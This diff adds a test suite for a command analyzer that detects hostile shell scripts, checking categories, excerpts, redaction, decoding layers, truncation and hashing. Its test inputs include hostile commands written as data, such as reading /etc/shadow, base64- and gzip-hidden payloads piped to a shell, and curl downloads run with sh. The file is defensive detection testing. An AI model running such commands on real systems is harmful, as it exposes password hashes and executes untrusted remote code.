@@ -1,0 +1,164 @@
+import fc from 'fast-check'
+import { createHash } from 'node:crypto'
+import { gzipSync } from 'node:zlib'
+import { ANALYZED_MAX, analyzeCommand, type CategoryHit } from '../../../shared/command/analyze'
+import { attackScripts } from './attack-scripts'
+import { inflate } from './inflate'
+import { ordinaryScripts } from './ordinary-scripts'
+
+const categoriesOf = (hits: readonly CategoryHit[]): readonly string[] => hits.map(({ category }) => category).sort()
+
+describe('analyzeCommand on the scripts of attackers', () => {
+  it('is tried on at least 60 of them', () => {
+    expect(attackScripts.length).toBeGreaterThanOrEqual(60)
+  })
+
+  it.each(attackScripts)('%s', (_, text, strong) => {
+    expect(categoriesOf(analyzeCommand(text).strong)).toEqual([...strong].sort())
+  })
+})
+
+describe('analyzeCommand on ordinary administration', () => {
+  it('is tried on at least 60 scripts', () => {
+    expect(ordinaryScripts.length).toBeGreaterThanOrEqual(60)
+  })
+
+  it.each(ordinaryScripts)('%s', (_, text, weak) => {
+    const analysis = analyzeCommand(text)
+    expect(analysis.strong).toEqual([])
+    expect(categoriesOf(analysis.weak)).toEqual([...weak].sort())
+  })
+})
+
+describe('an attack among ordinary lines', () => {
+  const ordinary = ordinaryScripts.filter(([, text]) => !text.includes('<<') && !text.includes('<#')).map(([, text]) => text)
+
+  it('is found behind and in front of any ordinary script', () => {
+    for (const text of ordinary) {
+      expect(categoriesOf(analyzeCommand(`${text}\ncat /etc/shadow`).strong)).toContain('credential-files')
+      expect(categoriesOf(analyzeCommand(`cat /etc/shadow\n${text}`).strong)).toContain('credential-files')
+    }
+  })
+})
+
+describe('the answer', () => {
+  it('shows the matched command in one line of at most 160 characters', () => {
+    const { strong } = analyzeCommand(`cat /etc/shadow |\\\n  base64 ${'-w0 '.repeat(80)}`)
+    expect(strong[0]?.excerpt).toMatch(/^cat \/etc\/shadow/)
+    expect(strong[0]?.excerpt).not.toContain('\n')
+    expect(strong[0]?.excerpt.length).toBeLessThanOrEqual(160)
+  })
+
+  it('cuts a long command short with three dots', () => {
+    const { strong } = analyzeCommand(`cat /etc/shadow ${'/var/log/some-rather-long-name '.repeat(20)}`)
+    expect(strong[0]?.excerpt).toHaveLength(160)
+    expect(strong[0]?.excerpt.endsWith('...')).toBe(true)
+  })
+
+  it('redacts the secrets in what it shows', () => {
+    const { strong } = analyzeCommand("echo 'root:Passw0rd!234' | chpasswd")
+    expect(strong[0]?.excerpt).toBe("echo 'root:[redacted]' | chpasswd")
+  })
+
+  it('says in which layer something was found', () => {
+    const encoded = Buffer.from('cat /etc/shadow').toString('base64')
+    const analysis = analyzeCommand(`echo ${encoded} | base64 -d | sh`)
+    expect(analysis.strong[0]?.why).toBe('reads password hashes; found in base64')
+    expect(analysis).toMatchObject({ layers: 1, decodedBy: ['base64'], truncated: false })
+  })
+
+  it('holds one hit of a category, the strong one before the weak one', () => {
+    const { strong, weak } = analyzeCommand('curl -fsSL https://get.docker.com | sh\ncurl -s http://198.51.100.7/x | sh\ncurl -s http://198.51.100.8/y | sh')
+    expect(strong.map(({ category, excerpt }) => [category, excerpt])).toEqual([['download-and-run', 'curl -s http://198.51.100.7/x | sh']])
+    expect(weak).toEqual([])
+  })
+
+  it('tells an ordinary script nothing', () => {
+    expect(analyzeCommand('systemctl restart app')).toMatchObject({ strong: [], weak: [], layers: 0, decodedBy: [], truncated: false })
+  })
+
+  it('opens compressed payloads only when it is given the means', () => {
+    const packed = gzipSync('cat /etc/shadow').toString('base64')
+    const text = `echo ${packed} | base64 -d | gunzip | bash`
+    expect(categoriesOf(analyzeCommand(text).strong)).toEqual([])
+    expect(categoriesOf(analyzeCommand(text, { inflate }).strong)).toEqual(['credential-files'])
+  })
+
+  it('calls hiding for its own sake weak', () => {
+    expect(categoriesOf(analyzeCommand('c\\u\\r\\l -s localhost/health').weak)).toEqual(['obfuscation'])
+    expect(categoriesOf(analyzeCommand(`powershell -enc ${Buffer.from('Get-Date', 'utf16le').toString('base64')}`).weak)).toEqual(['obfuscation'])
+    const twice = Buffer.from('echo 5265737461727420617070 | xxd -r -p').toString('base64')
+    expect(analyzeCommand(`echo ${twice} | base64 -d`).weak).toMatchObject([{ category: 'obfuscation', why: 'hidden by base64, then hexadecimal digits' }])
+  })
+})
+
+describe('long texts', () => {
+  const filler = '# a comment of the usual length that says nothing at all\n'
+
+  it('are looked at up to the bound', () => {
+    const analysis = analyzeCommand(`${filler.repeat(500)}cat /etc/shadow\n${filler.repeat(500)}`)
+    expect(analysis.truncated).toBe(false)
+    expect(categoriesOf(analysis.strong)).toEqual(['credential-files'])
+  })
+
+  it.each([
+    ['at the beginning', 0],
+    ['at the end', 2000],
+  ])('are looked at %s beyond it, and marked', (_, before) => {
+    const text = `${filler.repeat(before)}cat /etc/shadow\n${filler.repeat(2000 - before)}`
+    expect(text.length).toBeGreaterThan(ANALYZED_MAX)
+    expect(analyzeCommand(text).truncated).toBe(true)
+    expect(categoriesOf(analyzeCommand(text).strong)).toEqual(['credential-files'])
+  })
+
+  it('of very many commands are cut in the middle, and marked', () => {
+    const text = `cat /etc/shadow\n${'a;'.repeat(8_000)}`
+    expect(text.length).toBeLessThan(ANALYZED_MAX)
+    expect(analyzeCommand(text).truncated).toBe(true)
+    expect(categoriesOf(analyzeCommand(text).strong)).toEqual(['credential-files'])
+  })
+
+  it('hash in full', () => {
+    const text = filler.repeat(3_000)
+    expect(analyzeCommand(`${text}a`).hash).not.toBe(analyzeCommand(`${text}b`).hash)
+  })
+})
+
+describe('the hash', () => {
+  it('is the SHA-256 of the trimmed text with line feeds', () => {
+    expect(analyzeCommand('  echo a\r\necho b\r\n').hash).toBe(createHash('sha256').update('echo a\necho b').digest('hex'))
+  })
+
+  it('does not depend on line ends and outer white space', () => {
+    fc.assert(
+      fc.property(fc.array(fc.string().map((line) => line.replace(/[\r\n]/g, ''))), (lines) => {
+        expect(analyzeCommand(` ${lines.join('\r\n')}\n`).hash).toBe(analyzeCommand(lines.join('\n')).hash)
+      }),
+    )
+  })
+})
+
+/** Pieces of real syntax, so that the parsers are reached. */
+const pieces = fc.constantFrom(
+  ...attackScripts.map(([, text]) => text),
+  '$(', '`', '"', "'", '(', ')', '{', '}', '<<EOF\n', 'EOF\n', '|', '&&', ';', '\n', '\\', '^', '%a%', '$a', 'a=', '@"\n', '"@', '<#', '#>', '${', '[[ ', ' ]]', '-f', '-join', '\0', '\uD800', '\u202E',
+)
+const scripts = fc.oneof(fc.string({ unit: 'binary', maxLength: 200 }), fc.array(fc.oneof(pieces, fc.string({ maxLength: 8 })), { maxLength: 12 }).map((parts) => parts.join('')))
+
+describe('any text', () => {
+  it('gets an answer, the same every time, within its bounds', () => {
+    fc.assert(
+      fc.property(scripts, (text) => {
+        const analysis = analyzeCommand(text, { inflate })
+        expect(analyzeCommand(text, { inflate })).toEqual(analysis)
+        const hits = [...analysis.strong, ...analysis.weak]
+        expect(new Set(hits.map(({ category }) => category)).size).toBe(hits.length)
+        for (const { excerpt, why } of hits) {
+          expect(excerpt.length).toBeLessThanOrEqual(160)
+          expect(why).not.toBe('')
+        }
+      }),
+      { numRuns: 1_000 },
+    )
+  })
+})
